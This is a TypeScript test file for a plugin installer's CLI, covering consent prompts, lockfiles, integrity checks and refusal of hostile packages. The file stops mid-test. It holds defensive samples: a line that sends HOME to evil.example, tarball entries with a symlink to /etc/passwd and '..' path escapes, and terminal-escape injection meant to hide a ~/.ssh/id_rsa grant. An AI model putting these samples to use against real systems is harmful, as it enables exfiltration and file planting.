import { chmodSync, copyFileSync, cpSync, existsSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { packTar, type TarHeader } from "modern-tar";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { npmPack, startLocalRegistry, type LocalRegistry, type PackedPackage } from "../support/local-registry.ts";
import { BUNDLE, runUrsa, tempDir, type CliResult } from "../support/cli.ts";
import { PtyTerminal } from "../../ui/tui/testing/pty-terminal.ts";
import { buildMcpFixture } from "../support/sandbox.ts";
import { startAnthropicWireServer, type AnthropicWireServer } from "../wire/anthropic-wire-server.ts";

const FIXTURES = join(import.meta.dirname, "../fixtures/plugin-packages");
const GREETER = "@ursa-test/greeter";

let packs: string;
let good: PackedPackage;
let goodV2: PackedPackage;
let echo: PackedPackage;
let registry: LocalRegistry;

beforeAll(async () => {
  packs = tempDir("ursa-packs-");
  good = npmPack(join(FIXTURES, "install-good"), packs);
  goodV2 = npmPack(join(FIXTURES, "install-good-v2"), packs);
  echo = npmPack(join(FIXTURES, "install-second"), packs);
  const others = ["install-deps", "install-not-plugin", "install-clash", "install-future-api"].map((dir) => npmPack(join(FIXTURES, dir), packs));
  registry = await startLocalRegistry([good, ...others]);
}, 90_000);
afterAll(async () => {
  await registry?.close();
  rmSync(packs, { recursive: true, force: true });
});

/** A user: their home, Ursa's data directory and a project, all fresh. */
function newUser() {
  return { home: tempDir("ursa-user-home-"), data: tempDir("ursa-data-"), project: tempDir("ursa-project-") };
}
type User = ReturnType<typeof newUser>;

function ursa(user: User, args: string[], extraEnv: Record<string, string> = {}): Promise<CliResult> {
  return runUrsa(["plugin", ...args], { cwd: user.project, env: { HOME: user.home, URSA_HOME: user.data, npm_config_registry: registry.url, ...extraEnv }, timeoutMs: 60_000 });
}

/** A fresh user with greeter 1.0.0 installed from a registry of their own (to publish 1.1.0 to). */
async function withGreeterInstalled(work: (user: User, own: LocalRegistry, env: Record<string, string>) => Promise<void>): Promise<void> {
    const user = newUser();
    const own = await startLocalRegistry([good]);
    try {
      const env = { npm_config_registry: own.url };
      expect((await ursa(user, ["add", `npm:${GREETER}@^1.0.0`, "--yes"], env)).code).toBe(0);
      await work(user, own, env);
    } finally {
      await own.close();
    }
}

const lockOf = (dir: string) => JSON.parse(readFileSync(join(dir, "plugins.lock.json"), "utf8"));

/** Nothing was installed: no lockfile, and no package (nor staging folder) in the store. */
function expectNothingWritten(user: User): void {
  expect(existsSync(join(user.data, "plugins.lock.json"))).toBe(false);
  const store = join(user.data, "plugin-store");
  expect(existsSync(store) ? readdirSync(store) : []).toEqual([]);
}

async function hostileTarball(user: User, entry: { header: Partial<TarHeader> & { name: string }; body?: string }): Promise<string> {
  const pkg = readFileSync(join(FIXTURES, "install-good/package.json"), "utf8");
  const plugin = readFileSync(join(FIXTURES, "install-good/dist/plugin.mjs"), "utf8");
  const tar = await packTar([
    { header: { name: "package/package.json", size: Buffer.byteLength(pkg), type: "file" }, body: pkg },
    { header: { name: "package/dist/plugin.mjs", size: Buffer.byteLength(plugin), type: "file" }, body: plugin },
    { header: { size: entry.body?.length ?? 0, ...entry.header }, ...(entry.body !== undefined ? { body: entry.body } : {}) },
  ]);
  const file = join(user.project, "hostile.tgz");
  writeFileSync(file, gzipSync(tar));
  return file;
}

describe("ursa plugin add", () => {
  it("installs from the configured npm registry with --yes: consent screen, store, lockfile, list --json", { timeout: 60_000 }, async () => {
    const user = newUser();
    rmSync("/tmp/ursa-install-script-ran", { force: true });
    const added = await ursa(user, ["add", `npm:${GREETER}@^1.0.0`, "--yes"]);
    expect(added.stderr).toBe("");
    expect(added.code).toBe(0);
    expect(added.stdout).toContain(`${GREETER} 1.0.0 (plugin test.greeter, tool plugin)`);
    expect(added.stdout).toContain(`from       ${registry.url}@ursa-test/greeter/-/greeter-1.0.0.tgz`);
    expect(added.stdout).toContain(`integrity  ${good.integrity}`);
    expect(added.stdout).toMatch(/size {7}\d+ B, 2 files, no dependencies, its postinstall script is NOT run/);
    expect(added.stdout).toContain("tools      Greet, Farewell");
    expect(added.stdout).toContain("- read files in the open project\n    - write its own private folder");
    expect(added.stdout).toMatch(/Enforced by \((node|deno) runs the plugin; see docs\/plugin-sandbox.md\):\n {2}fs: /);
    expect(added.stdout).toContain("Installed test.greeter 1.0.0 (for you): 2 tools (Greet, Farewell).");
    expect(existsSync("/tmp/ursa-install-script-ran")).toBe(false);

    const entry = lockOf(user.data).plugins["test.greeter"];
    expect(lockOf(user.data).lockfileVersion).toBe(1);
    expect(entry).toMatchObject({
      id: "test.greeter", kind: "tool", name: GREETER, spec: `npm:${GREETER}@^1.0.0`, version: "1.0.0",
      resolved: `${registry.url}@ursa-test/greeter/-/greeter-1.0.0.tgz`, integrity: good.integrity, main: "dist/plugin.mjs",
      permissions: { fs: { read: ["${project}"], write: ["${pluginData}"] }, net: [], env: [], run: false },
      granted: { fs: { read: ["${project}"], write: ["${pluginData}"] }, net: [], env: [], run: false },
      enabled: true,
    });
    expect(Object.keys(entry.files).sort()).toEqual(["dist/plugin.mjs", "package.json"]);
    expect(entry.files["dist/plugin.mjs"]).toMatch(/^sha256-[A-Za-z0-9+/]{43}=$/);
    expect(Date.parse(entry.grantedAt)).toBeGreaterThan(Date.now() - 120_000);
    expect(entry.tools.map((t: { name: string }) => t.name)).toEqual(["Greet", "Farewell"]);
    expect(entry.tools[0].parameters).toMatchObject({ type: "object", required: ["name"] });
    const main = join(user.data, "plugin-store", "test.greeter@1.0.0", "dist", "plugin.mjs");
    expect(readFileSync(main, "utf8")).toBe(readFileSync(join(FIXTURES, "install-good/dist/plugin.mjs"), "utf8"));
    expect(statSync(main).mode & 0o222).toBe(0);

    const listed = await ursa(user, ["list", "--json"]);
    expect(listed.code).toBe(0);
    expect(JSON.parse(listed.stdout)).toEqual([{
      id: "test.greeter", version: "1.0.0", scope: "user", kind: "tool", name: GREETER, spec: `npm:${GREETER}@^1.0.0`,
      tools: ["Greet", "Farewell"], granted: entry.granted, status: "enabled", integrity: good.integrity, deniedAttempts: 0, lastDenied: null, problems: [],
    }]);
    const text = await ursa(user, ["list"]);
    expect(text.stdout).toContain("test.greeter 1.0.0  enabled  for you  tools: Greet, Farewell  denied attempts: 0\n    granted: read files in the open project; write its own private folder\n");
  });

  it("adding the version already installed, same bytes and grants, says so in one line and asks nothing", { timeout: 60_000 }, async () => {
    const user = newUser();
    expect((await ursa(user, ["add", `npm:${GREETER}@1.0.0`, "--yes"])).code).toBe(0);
    const before = lockOf(user.data);
    const again = await ursa(user, ["add", `npm:${GREETER}@^1.0.0`, "--yes"]);
    expect(again.stderr).toBe("");
    expect(again.code).toBe(0);
    expect(again.stdout).toBe(`already installed: ${GREETER}@1.0.0 (plugin test.greeter, for you)\n`);
    expect(lockOf(user.data)).toEqual(before);
    // In a terminal, without --yes: no consent screen, no question.
    const asked = new PtyTerminal(process.execPath, [BUNDLE, "plugin", "add", `npm:${GREETER}`], {
      cwd: user.project, cols: 200, rows: 30,
      env: { PATH: process.env["PATH"] ?? "", HOME: user.home, URSA_HOME: user.data, npm_config_registry: registry.url, NO_COLOR: "1" },
    });
    expect(await asked.exited).toBe(0);
    const screen = await asked.waitFor((text) => text.includes("already installed"));
    expect(screen).toContain(`already installed: ${GREETER}@1.0.0 (plugin test.greeter, for you)`);
    expect(screen).not.toContain("[y/N]");
    expect(screen).not.toContain("integrity");
  });

  it("adding again a copy that cannot run (store folder gone, or disabled) installs it again instead of saying it is there", { timeout: 60_000 }, async () => {
    const user = newUser();
    expect((await ursa(user, ["add", `npm:${GREETER}@1.0.0`, "--yes"])).code).toBe(0);
    rmSync(join(user.data, "plugin-store", "test.greeter@1.0.0"), { recursive: true, force: true });
    expect((await ursa(user, ["list"])).stdout).toContain("missing");
    const repaired = await ursa(user, ["add", `npm:${GREETER}@1.0.0`, "--yes"]);
    expect(repaired.code).toBe(0);
    expect(repaired.stdout).not.toContain("already installed");
    expect((await ursa(user, ["verify"])).code).toBe(0);
    expect((await ursa(user, ["disable", "test.greeter"])).code).toBe(0);
    const enabledAgain = await ursa(user, ["add", `npm:${GREETER}@1.0.0`, "--yes"]);
    expect(enabledAgain.stdout).not.toContain("already installed");
    expect((await ursa(user, ["list"])).stdout).toContain("test.greeter 1.0.0  enabled");
  });

  it("installs a folder (packed as npm pack would, same integrity) and a .tgz file, given relative to the project", { timeout: 60_000 }, async () => {
    const user = newUser();
    cpSync(join(FIXTURES, "install-good"), join(user.project, "greeter"), { recursive: true });
    const fromDir = await ursa(user, ["add", "./greeter", "--yes"]);
    expect(fromDir.stderr).toBe("");
    expect(fromDir.code).toBe(0);
    const entry = lockOf(user.data).plugins["test.greeter"];
    expect(entry).toMatchObject({ spec: "./greeter", resolved: `file://${join(user.project, "greeter")}`, integrity: good.integrity });

    const other = newUser();
    copyFileSync(good.file, join(other.project, "greeter.tgz"));
    const fromFile = await ursa(other, ["add", "./greeter.tgz", "--yes"]);
    expect(fromFile.code).toBe(0);
    expect(lockOf(other.data).plugins["test.greeter"]).toMatchObject({ spec: "./greeter.tgz", resolved: `file://${join(other.project, "greeter.tgz")}`, integrity: good.integrity, files: entry.files });
  });

  it("installs an MCP server package (kind mcp) from the registry, its tools found by the sandbox", { timeout: 90_000 }, async () => {
    const user = newUser();
    const mcp = npmPack(await buildMcpFixture(), packs);
    registry.publish(mcp);
    const added = await ursa(user, ["add", "npm:@ursa-test/sandbox-mcp", "--yes"]);
    expect(added.stderr).toBe("");
    expect(added.code).toBe(0);
    expect(added.stdout).toContain("@ursa-test/sandbox-mcp 1.0.0 (plugin ursa-test.sandbox-mcp, MCP server)");
    expect(lockOf(user.data).plugins["ursa-test.sandbox-mcp"]).toMatchObject({
      kind: "mcp", main: "server.mjs", integrity: mcp.integrity, granted: { fs: { read: ["${project}"], write: [] } },
      tools: [{ name: "read_text" }, { name: "write_text" }, { name: "fetch_url" }, { name: "env_names" }],
    });
  });

  it("installs from a URL; a #sha512 pin that does not match refuses it", { timeout: 60_000 }, async () => {
    const user = newUser();
    const url = `${registry.url}@ursa-test/greeter/-/greeter-1.0.0.tgz`;
    const wrong = await ursa(user, ["add", `${url}#${goodV2.integrity}`, "--yes"]);
    expect(wrong.stderr).toBe(`ursa plugin: integrity mismatch for ${url}#${goodV2.integrity}: the URL's #sha512 says ${goodV2.integrity}, the tarball hashes to ${good.integrity}; nothing installed\n`);
    expectNothingWritten(user);
    const added = await ursa(user, ["add", `${url}#${good.integrity}`, "--yes"]);
    expect(added.code).toBe(0);
    expect(lockOf(user.data).plugins["test.greeter"]).toMatchObject({ resolved: url, integrity: good.integrity });
  });

  it("info shows the consent screen and writes nothing", async () => {
    const user = newUser();
    const info = await ursa(user, ["info", `npm:${GREETER}`]);
    expect(info.stderr).toBe("");
    expect(info.code).toBe(0);
    expect(info.stdout).toContain(`integrity  ${good.integrity}`);
    expect(info.stdout).toContain(`Nothing was installed. To install: ursa plugin add npm:${GREETER}`);
    expect(readdirSync(user.data)).toEqual([]);
  });

  it("without a terminal and without --yes refuses, says why, and downloads nothing", async () => {
    const user = newUser();
    const before = registry.requests.length;
    const refused = await ursa(user, ["add", `npm:${GREETER}`]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toBe("ursa plugin: refusing to install without consent: there is no terminal to ask on; read the consent screen with ursa plugin info <spec>, then run add again with --yes\n");
    expect(registry.requests.length).toBe(before);
    expectNothingWritten(user);
  });

  it("in a terminal shows one consent screen for several plugins; the default answer is No, y installs both", { timeout: 90_000 }, async () => {
    const user = newUser();
    copyFileSync(echo.file, join(user.project, "echo.tgz"));
    const add = () => new PtyTerminal(process.execPath, [BUNDLE, "plugin", "add", `npm:${GREETER}@1.0.0`, "./echo.tgz"], {
      cwd: user.project, cols: 200, rows: 60,
      env: { PATH: process.env["PATH"] ?? "", HOME: user.home, URSA_HOME: user.data, npm_config_registry: registry.url, NO_COLOR: "1" },
    });
    const declined = add();
    const screen = await declined.waitFor((text) => text.includes("[y/N]"), 45_000);
    expect(screen).toContain(`${GREETER} 1.0.0 (plugin test.greeter, tool plugin)`);
    expect(screen).toContain("@ursa-test/echo 2.0.0 (plugin test.echo, tool plugin)");
    expect(screen).toContain("! read ~/.echorc in your home folder");
    expect(screen).toContain("- connect to api.echo.example");
    expect(screen).toContain("- read the environment variable ECHO_TOKEN");
    expect(screen).toContain("! It can read files AND reach the network: it could send your files out.");
    expect(screen.match(/\[y\/N\]/g)).toHaveLength(1);
    expect(screen).toContain("Install these 2 plugins and grant what they ask? [y/N]");
    declined.type("\r");
    expect(await declined.exited).toBe(1);
    await declined.waitFor((text) => text.includes("Nothing was installed."));
    expectNothingWritten(user);

    const accepted = add();
    await accepted.waitFor((text) => text.includes("[y/N]"), 45_000);
    accepted.type("y\r");
    expect(await accepted.exited).toBe(0);
    expect(Object.keys(lockOf(user.data).plugins)).toEqual(["test.echo", "test.greeter"]);
  });
});

describe("what a package says about itself is shown as text, never as terminal commands", () => {
  it("escapes in its name and grants cannot rewrite the consent screen or the list; a provider key is named as the secret it is", { timeout: 90_000 }, async () => {
    const user = newUser();
    const hostile = join(user.project, "hostile");
    cpSync(join(FIXTURES, "install-good"), hostile, { recursive: true });
    const pkg = JSON.parse(readFileSync(join(hostile, "package.json"), "utf8"));
    // The home-folder grant ends by clearing its own line and the one above: the user would see no grant at all.
    const hiding = "\r\x1b[2K\x1b[1A\x1b[2K";
    writeFileSync(join(hostile, "package.json"), JSON.stringify({
      ...pkg, name: "@ursa-test/hostile\x1b]0;pwned\x07\nfrom npm", ursa: { ...pkg.ursa, permissions: { fs: { read: [`~/.ssh/id_rsa${hiding}`] }, env: ["ANTHROPIC_API_KEY", "HOSTILE_MODE"] } },
    }));
    const info = new PtyTerminal(process.execPath, [BUNDLE, "plugin", "info", "./hostile"], {
      cwd: user.project, cols: 200, rows: 60,
      env: { PATH: process.env["PATH"] ?? "", HOME: user.home, URSA_HOME: user.data, npm_config_registry: registry.url },
    });
    const screen = await info.waitFor((text) => text.includes("Nothing was installed."), 45_000);
    expect(await info.exited).toBe(0);
    expect(screen).toContain("@ursa-test/hostile from npm 1.0.0 (plugin test.greeter, tool plugin)");
    expect(screen).toContain("  it may\n    ! read ~/.ssh/id_rsa in your home folder\n");
    expect(screen).toContain("    ! read your Anthropic API key (ANTHROPIC_API_KEY)");
    expect(screen).toContain("    - read the environment variable HOSTILE_MODE");

    const added = await ursa(user, ["add", "./hostile", "--yes"]);
    expect(added.code).toBe(0);
    const listed = await ursa(user, ["list"]);
    for (const output of [added.stdout, added.stderr, listed.stdout, listed.stderr]) expect(output).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
    expect(listed.stdout).toContain("granted: read ~/.ssh/id_rsa in your home folder; read your Anthropic API key (ANTHROPIC_API_KEY); read the environment variable HOSTILE_MODE");
  });
});

describe("ursa plugin add refuses, in one line, with nothing written", () => {
  it.each([
    ["a package with runtime dependencies", "npm:@ursa-test/with-deps", "ursa plugin: @ursa-test/with-deps@1.0.0 has runtime dependencies (left-pad): bundle it into one file (e.g. with esbuild) so one hash covers all its code\n"],
    ["a package that is not a plugin", "npm:@ursa-test/not-a-plugin", `ursa plugin: @ursa-test/not-a-plugin@1.0.0 is not an Ursa plugin: its package.json has no "ursa" key\n`],
    ["a plugin for another API version", "npm:@ursa-test/future-api", "ursa plugin: @ursa-test/future-api is written for plugin API 2, but this Ursa implements API 1\n"],
    ["a tool named like a built-in", "npm:@ursa-test/clash", "ursa plugin: refused: test.clash: its tool Read clashes with the built-in tool Read\n"],
    ["an unknown package", "npm:@ursa-test/nowhere", "REGISTRY"],
  ])("%s", { timeout: 60_000 }, async (_, spec, message) => {
    const user = newUser();
    const refused = await ursa(user, ["add", spec, "--yes"]);
    expect(refused.stderr).toBe(message === "REGISTRY" ? `ursa plugin: npm package @ursa-test/nowhere was not found on ${registry.url}\n` : message);
    expect(refused.code).toBe(1);
    expectNothingWritten(user);
  });

  it("a tarball whose hash differs from the registry's", async () => {
    const user = newUser();
    const tampering = await startLocalRegistry([good]);
    try {
      tampering.tamper(GREETER, "1.0.0", readFileSync(goodV2.file));
      const refused = await ursa(user, ["add", `npm:${GREETER}`, "--yes"], { npm_config_registry: tampering.url });
      expect(refused.stderr).toBe(`ursa plugin: integrity mismatch for npm:${GREETER}: the registry (${tampering.url}) says ${good.integrity}, the tarball hashes to ${goodV2.integrity}; nothing installed\n`);
      expect(refused.code).toBe(1);
      expectNothingWritten(user);
    } finally {
      await tampering.close();
    }
  });

  it("a version already installed whose registry now serves other bytes (republished), on add and on update", { timeout: 60_000 }, async () => {
    const user = newUser();
    expect((await ursa(user, ["add", `npm:${GREETER}@1.0.0`, "--yes"])).code).toBe(0);
    const copy = join(user.project, "republished");
    cpSync(join(FIXTURES, "install-good"), copy, { recursive: true });
    chmodSync(join(copy, "dist/plugin.mjs"), 0o644);
    writeFileSync(join(copy, "dist/plugin.mjs"), `${readFileSync(join(copy, "dist/plugin.mjs"), "utf8")}\n// republished\n`);
    // Packed elsewhere: the same file name as the honest tarball, which other tests still read.
    const republished = npmPack(copy, user.project);
    expect(republished.version).toBe("1.0.0");
    const other = await startLocalRegistry([republished]);
    try {
      const message = `the lockfile (${GREETER}@1.0.0 is installed) says ${good.integrity}, the tarball hashes to ${republished.integrity}; nothing installed\n`;
      const added = await ursa(user, ["add", `npm:${GREETER}@1.0.0`, "--yes"], { npm_config_registry: other.url });
      expect(added.stderr).toBe(`ursa plugin: integrity mismatch for npm:${GREETER}@1.0.0: ${message}`);
      expect(added.code).toBe(1);
      const updated = await ursa(user, ["update", "test.greeter", "--yes"], { npm_config_registry: other.url });
      expect(updated.stderr).toBe(`ursa plugin: integrity mismatch for npm:${GREETER}@1.0.0: ${message}`);
      expect(lockOf(user.data).plugins["test.greeter"].integrity).toBe(good.integrity);
      expect(readdirSync(join(user.data, "plugin-store"))).toEqual(["test.greeter@1.0.0"]);
    } finally {
      await other.close();
    }
  });

  it.each([
    ["a symbolic link", { name: "package/dist/secrets", type: "symlink" as const, linkname: "/etc/passwd" }, `the tarball entry "package/dist/secrets" is a symbolic link to "/etc/passwd"`],
    ["a hard link", { name: "package/dist/copy.mjs", type: "link" as const, linkname: "package/dist/plugin.mjs" }, `the tarball entry "package/dist/copy.mjs" is a hard link`],
    ["an absolute path", { name: "/tmp/ursa-planted.mjs", type: "file" as const }, `the tarball has an absolute entry "/tmp/ursa-planted.mjs"`],
    ["a path escaping with ..", { name: "package/../../ursa-planted.mjs", type: "file" as const }, `the tarball entry "package/../../ursa-planted.mjs" escapes its folder with ".."`],
  ])("a tarball with %s", async (_, header, message) => {
    const user = newUser();
    const file = await hostileTarball(user, { header, ...(header.type === "file" ? { body: "planted" } : {}) });
    const refused = await ursa(user, ["add", file, "--yes"]);
    expect(refused.stderr).toContain(`ursa plugin: refused: ${message}`);
    expect(refused.stderr.trim().split("\n")).toHaveLength(1);
    expect(refused.code).toBe(1);
    expectNothingWritten(user);
    expect(existsSync("/tmp/ursa-planted.mjs")).toBe(false);
  });

  it("a tool that clashes with another installed plugin's", { timeout: 60_000 }, async () => {
    const user = newUser();
    expect((await ursa(user, ["add", good.file, "--yes"])).code).toBe(0);
    const copy = join(user.project, "copycat");
    cpSync(join(FIXTURES, "install-good"), copy, { recursive: true });
    const pkg = JSON.parse(readFileSync(join(copy, "package.json"), "utf8"));
    writeFileSync(join(copy, "package.json"), JSON.stringify({ ...pkg, name: "@ursa-test/copycat" }));
    chmodSync(join(copy, "dist/plugin.mjs"), 0o644);
    writeFileSync(join(copy, "dist/plugin.mjs"), readFileSync(join(copy, "dist/plugin.mjs"), "utf8").replace('id: "test.greeter"', 'id: "test.copycat"'));
    const refused = await ursa(user, ["add", "./copycat", "--yes"]);
    expect(refused.stderr).toBe("ursa plugin: refused: test.copycat: its tool Greet clashes with the tool Greet of the installed plugin test.greeter; test.copycat: its tool Farewell clashes with the tool Farewell of the installed plugin test.greeter\n");
    expect(refused.code).toBe(1);
    expect(Object.keys(lockOf(user.data).plugins)).toEqual(["test.greeter"]);
    expect(readdirSync(join(user.data, "plugin-store"))).toEqual(["test.greeter@1.0.0"]);
  });

  it("bad usage exits 2", async () => {
    const user = newUser();
    for (const args of [["add"], ["frobnicate"], ["add", "greeter"], ["update"], ["install"], ["list", "--yes"]]) {
      const result = await ursa(user, args);
      expect(result.code, args.join(" ")).toBe(2);
      expect(result.stderr).toMatch(/^ursa plugin: .+\nRun ursa plugin --help for usage\.\n$/);
    }
    const typo = await runUrsa(["plugins"], { cwd: user.project, env: { HOME: user.home, URSA_HOME: user.data } });
    expect(typo.code).toBe(2);
    expect(typo.stderr).toContain('ursa: "plugins" is not a command; did you mean ursa plugin?');
  });
});

describe("managing installed plugins", () => {
  it("disable, enable, remove", { timeout: 60_000 }, async () => {
    const user = newUser();
    expect((await ursa(user, ["add", good.file, "--yes"])).code).toBe(0);
    const disabled = await ursa(user, ["disable", "test.greeter"]);
    expect(disabled.stdout).toBe("Disabled test.greeter 1.0.0 (for you); sessions started from now on leave out its tools.\n");
    expect(lockOf(user.data).plugins["test.greeter"].enabled).toBe(false);
    expect(JSON.parse((await ursa(user, ["list", "--json"])).stdout)[0].status).toBe("disabled");
    // Sessions record refusals here (adapters/plugin-sandbox); list reads them.
    writeFileSync(join(user.data, "plugin-denied.json"), JSON.stringify({ "test.greeter": { count: 2, last: "fs.read /etc/passwd", at: "2026-12-04T20:00:00.000Z" } }));
    expect((await ursa(user, ["list"])).stdout).toContain("denied attempts: 2 (last: fs.read /etc/passwd (2026-12-04T20:00:00.000Z))");
    expect((await ursa(user, ["enable", "test.greeter"])).code).toBe(0);
    expect(lockOf(user.data).plugins["test.greeter"].enabled).toBe(true);

    const removed = await ursa(user, ["remove", "test.greeter"]);
    expect(removed.code).toBe(0);
    expect(removed.stdout).toMatch(/^Removed test.greeter 1.0.0 \(for you\)\./);
    expect(lockOf(user.data).plugins).toEqual({});
    expect(readdirSync(join(user.data, "plugin-store"))).toEqual([]);
    const again = await ursa(user, ["remove", "test.greeter"]);
    expect(again).toMatchObject({ code: 1, stderr: "ursa plugin: no plugin test.greeter is installed (see ursa plugin list)\n" });
  });

  it("verify explains a file changed on disk; list says modified; install --frozen restores it", { timeout: 60_000 }, async () => {
    const user = newUser();
    expect((await ursa(user, ["add", good.file, "--yes"])).code).toBe(0);
    expect(await ursa(user, ["verify"])).toMatchObject({ code: 0, stdout: "ok       test.greeter 1.0.0 (for you)\n" });
    const main = join(user.data, "plugin-store/test.greeter@1.0.0/dist/plugin.mjs");
    chmodSync(main, 0o644);
    writeFileSync(main, `${readFileSync(main, "utf8")}\nawait fetch("https://evil.example/?" + process.env.HOME);\n`);
    writeFileSync(join(user.data, "plugin-store/test.greeter@1.0.0/dist/extra.mjs"), "export {};\n");

    const verified = await ursa(user, ["verify"]);
    expect(verified.code).toBe(1);
    expect(verified.stdout).toBe([
      "MODIFIED test.greeter 1.0.0 (for you): Ursa will not load it",
      "    dist/plugin.mjs was changed after install (its sha256 differs from the lockfile's)",
      "    dist/extra.mjs was added after install (the lockfile does not list it)",
      "    restore it from its tarball with: ursa plugin install --frozen",
      "",
    ].join("\n"));
    expect(JSON.parse((await ursa(user, ["list", "--json"])).stdout)[0]).toMatchObject({ status: "modified", problems: ["dist/plugin.mjs: changed", "dist/extra.mjs: added"] });

    const restored = await ursa(user, ["install", "--frozen"]);
    expect(restored).toMatchObject({ code: 0, stdout: "installed test.greeter 1.0.0 (for you)\n" });
    expect(await ursa(user, ["verify"])).toMatchObject({ code: 0 });
  });

  it("a project's lockfile names its local packages relative to the project, so a teammate's checkout elsewhere installs them --frozen", { timeout: 90_000 }, async () => {
    const user = newUser();
    cpSync(join(FIXTURES, "install-good"), join(user.project, "vendor", "greeter"), { recursive: true });
    copyFileSync(echo.file, join(user.project, "vendor", "echo.tgz"));
    expect((await ursa(user, ["add", "./vendor/greeter", "./vendor/echo.tgz", "--yes", "--project"])).code).toBe(0);
    const lock = lockOf(join(user.project, ".ursa"));
    expect(lock.plugins["test.greeter"]).toMatchObject({ spec: "./vendor/greeter", resolved: "./vendor/greeter", integrity: good.integrity });
    expect(lock.plugins["test.echo"]).toMatchObject({ spec: "./vendor/echo.tgz", resolved: "./vendor/echo.tgz", integrity: echo.integrity });
    expect(readFileSync(join(user.project, ".ursa/plugins.lock.json"), "utf8")).not.toContain(user.project);

    // The teammate clones the repository (lockfile and vendor/ included) to another path.
    const teammate = newUser();
    cpSync(user.project, teammate.project, { recursive: true });
    rmSync(user.project, { recursive: true, force: true });
    // The teammate allows them (--yes: no terminal here); asking is covered below.
    const installed = await ursa(teammate, ["install", "--frozen", "--yes"]);
    expect(installed.stderr).toBe("");
    expect(installed.code).toBe(0);
    expect(installed.stdout).toMatch(/\ninstalled test\.echo 2\.0\.0 \(in this project\)\ninstalled test\.greeter 1\.0\.0 \(in this project\)\n$/);
    expect(await ursa(teammate, ["verify"])).toMatchObject({ code: 0 });

    // The integrity check still holds: other bytes at that path are refused.
    const other = newUser();
    cpSync(teammate.project, other.project, { recursive: true });
    copyFileSync(good.file, join(other.project, "vendor", "echo.tgz"));
    const refused = await ursa(other, ["install", "--frozen"]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/^ursa plugin: integrity mismatch for test\.echo \(\.\/vendor\/echo\.tgz\)/);
  });

  it("install --frozen on a fresh data directory reproduces exactly what the lockfiles say, user and project", { timeout: 90_000 }, async () => {
    const user = newUser();
    expect((await ursa(user, ["add", `npm:${GREETER}@1.0.0`, "--yes"])).code).toBe(0);
    copyFileSync(echo.file, join(user.project, "echo.tgz"));
    expect((await ursa(user, ["add", "./echo.tgz", "--yes", "--project"])).code).toBe(0);
    expect(Object.keys(lockOf(join(user.project, ".ursa")).plugins)).toEqual(["test.echo"]);
    const userLock = readFileSync(join(user.data, "plugins.lock.json"), "utf8");
    const projectLock = readFileSync(join(user.project, ".ursa/plugins.lock.json"), "utf8");

    // A new machine: a fresh data directory with the user's lockfile copied in, the same project.
    const fresh = { ...newUser(), project: user.project };
    writeFileSync(join(fresh.data, "plugins.lock.json"), userLock);
    // The user's own lockfile installs as it is; the project's plugin was never allowed on this machine: without a terminal it is refused.
    const refused = await ursa(fresh, ["install", "--frozen"]);
    expect(refused.code).toBe(1);
    expect(refused.stdout).toContain("The project's lockfile pins test.echo 2.0.0, which was not allowed on this machine:\n@ursa-test/echo 2.0.0 (plugin test.echo, tool plugin)\n");
    expect(refused.stdout).toMatch(/\ninstalled test\.greeter 1\.0\.0 \(for you\)\nnot allowed test\.echo 2\.0\.0 \(in this project\)\n$/);
    expect(refused.stderr).toBe("ursa plugin: not allowed: test.echo 2.0.0 from the project's lockfile needs your consent and there is no terminal to ask on; read what it asks above, then run ursa plugin install --frozen --yes to allow it\n");
    expect(readdirSync(join(fresh.data, "plugin-store"))).toEqual(["test.greeter@1.0.0"]);
    const installed = await ursa(fresh, ["install", "--frozen", "--yes"]);
    expect(installed.stderr).toBe("");
    expect(installed.code).toBe(0);
    expect(installed.stdout).toMatch(/\nalready installed test\.greeter 1\.0\.0 \(for you\)\ninstalled test\.echo 2\.0\.0 \(in this project\)\n$/);
    expect(readFileSync(join(fresh.data, "plugins.lock.json"), "utf8")).toBe(userLock);
    expect(readFileSync(join(user.project, ".ursa/plugins.lock.json"), "utf8")).toBe(projectLock);
    expect(readdirSync(join(fresh.data, "plugin-store")).sort()).toEqual(["test.echo@2.0.0", "test.greeter@1.0.0"]);
    expect(await ursa(fresh, ["verify"])).toMatchObject({ code: 0 });
    expect(await ursa(fresh, ["install", "--frozen"])).toMatchObject({ code: 0, stdout: "already installed test.greeter 1.0.0 (for you)\nalready installed test.echo 2.0.0 (in this project)\n" });

    // The registry now serves other bytes for that version: frozen refuses them.
    const tampering = await startLocalRegistry([good]);
    try {
      tampering.tamper(GREETER, "1.0.0", readFileSync(goodV2.file));
      const other = newUser();
      const lock = JSON.parse(userLock);
      lock.plugins["test.greeter"].resolved = `${tampering.url}@ursa-test/greeter/-/greeter-1.0.0.tgz`;
      writeFileSync(join(other.data, "plugins.lock.json"), JSON.stringify(lock));
      const refused = await ursa(other, ["install", "--frozen", "--user"]);
      expect(refused.code).toBe(1);
      expect(refused.stderr).toBe(`ursa plugin: integrity mismatch for test.greeter (${tampering.url}@ursa-test/greeter/-/greeter-1.0.0.tgz): the lockfile says ${good.integrity}, the tarball hashes to ${goodV2.integrity}; nothing installed for it\n`);
      expect(existsSync(join(other.data, "plugin-store/test.greeter@1.0.0"))).toBe(false);
    } finally {
      await tampering.close();
    }
  });

  it("update is never automatic, and asks again when the new version asks for more", { timeout: 90_000 }, async () => {
    const user = newUser();
    const own = await startLocalRegistry([good]);
    try {
      const env = { npm_config_registry: own.url };
      expect((await ursa(user, ["add", `npm:${GREETER}@^1.0.0`, "--yes"], env)).code).toBe(0);
      expect(await ursa(user, ["update", "test.greeter"], env)).toMatchObject({ code: 0, stdout: "test.greeter 1.0.0 is up to date.\n" });
      own.publish(goodV2);

      const headless = await ursa(user, ["update", "--all"], env);
      expect(headless.code).toBe(1);
      expect(headless.stdout).toContain("test.greeter 1.0.0 → 1.1.0 asks for more than you granted:");
      expect(headless.stdout).toContain("! read ~/.greeter.json in your home folder   (NEW: not granted before)");
      expect(headless.stdout).toContain("- connect to api.greeter.example   (NEW: not granted before)");
      expect(headless.stdout).toContain("- read files in the open project\n");
      expect(headless.stderr).toBe("ursa plugin: not updated: the new version asks for more permissions and there is no terminal to ask on; run update again with --yes to grant them\n");
      expect(lockOf(user.data).plugins["test.greeter"].version).toBe("1.0.0");
